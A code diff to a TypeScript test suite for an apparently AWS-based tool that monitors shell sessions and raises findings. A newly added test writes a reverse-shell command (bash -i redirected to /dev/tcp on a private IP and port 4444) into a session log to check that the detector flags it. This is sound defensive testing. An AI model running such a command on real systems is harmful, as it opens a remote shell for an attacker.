@@ -19,10 +19,12 @@ import { FileRowDeriver } from '../../src/adapters/search/file-row-deriver.ts';
 import { CHORE_NAMES } from '../../src/runtimes/lambda/chore-names.ts';
 import { takeDelivered } from '../../src/runtimes/lambda/delivered.ts';
 import { keep } from '../../src/runtimes/lambda/keep.ts';
+import { takeLines } from '../../src/runtimes/lambda/log-lines.ts';
 import type { LambdaParts } from '../../src/runtimes/lambda/parts.ts';
 import { MemorySearchIndex } from '../memory/archive.ts';
 import { LambdaWorld, PLACE } from '../state-machines/lambda-world.ts';
 import { deliverLogs, letNodeWrite, openPort, openShell } from '../state-machines/open-shell.ts';
+import { makeDeployedWay } from './deployed-lines.ts';
 import { makeDeliveredQueue } from './entry-ways.ts';
 
 /**
@@ -35,19 +37,25 @@ const parameters = {
   KeyAdministrators: 'arn:aws:iam::*:role/KeyAdmin',
   ExternalId: 'said-so',
   HubAccount: HUB_ACCOUNT,
-  OrganizationId: 'o-abcdefghij',
   Compute: 'lambda',
+  LiveLines: 'yes',
 };
-const hub = deploy(INFRA.hubStack, { account: HUB_ACCOUNT, region: REGION, parameters });
+const inHub = (OrganizationId: string) =>
+  deploy(INFRA.hubStack, {
+    account: HUB_ACCOUNT,
+    region: REGION,
+    parameters: { ...parameters, OrganizationId },
+  });
 const member = deploy(INFRA.memberStack, { account: MEMBER_ACCOUNT, region: REGION, parameters });
 const folder = join(tmpdir(), `deployed-roles-${process.pid}`);
 
 let world: LambdaWorld;
+let hub: ReturnType<typeof inHub>;
 let parts: LambdaParts;
 let delivered: Awaited<ReturnType<typeof makeDeliveredQueue>>;
 
 /** What a deployed role is allowed, with the lab's one archive in place of one in each Region. */
-function allowedTo(made: typeof hub, role: string): readonly string[] {
+function allowedTo(made: typeof member, role: string): readonly string[] {
   return roleOf(made, role).documents.map((document) =>
     JSON.stringify(document).replaceAll(`sallyport-archive-${HUB_ACCOUNT}-*`, NAMES.archiveBucket),
   );
@@ -74,6 +82,8 @@ async function makeMemberAsDeployed(): Promise<void> {
 
 beforeAll(async () => {
   world = await LambdaWorld.start();
+  const organization = world.aws.world.organizations.organizationOf(HUB_ACCOUNT);
+  hub = inHub(organization?.id ?? '');
   await makeServerAsDeployed();
   await makeMemberAsDeployed();
   await letNodeWrite(world);
@@ -132,4 +142,14 @@ test('a port is closed, and people are told', async () => {
   expect(told.length).toBeGreaterThan(0);
   expect(await parts.stores.notices.unsent(10)).toEqual([]);
   expect(await refused()).toEqual([]);
+});
+
+test('lines of a member come through its subscription and the destination of its organisation, and are judged', async () => {
+  const way = await makeDeployedWay(world, { hub, member });
+  const { id } = await openShell(world, { document: null });
+  await way.write(id, ['ssm-user@node:~$ bash -i >& /dev/tcp/10.0.0.1/4444 0>&1']);
+  expect(await takeLines(parts, { Records: await way.records() })).toEqual({ batchItemFailures: [] });
+  expect((await parts.stores.findings.list({ session: id })).length).toBeGreaterThan(0);
+  expect(await refused()).toEqual([]);
+  way.close();
 });
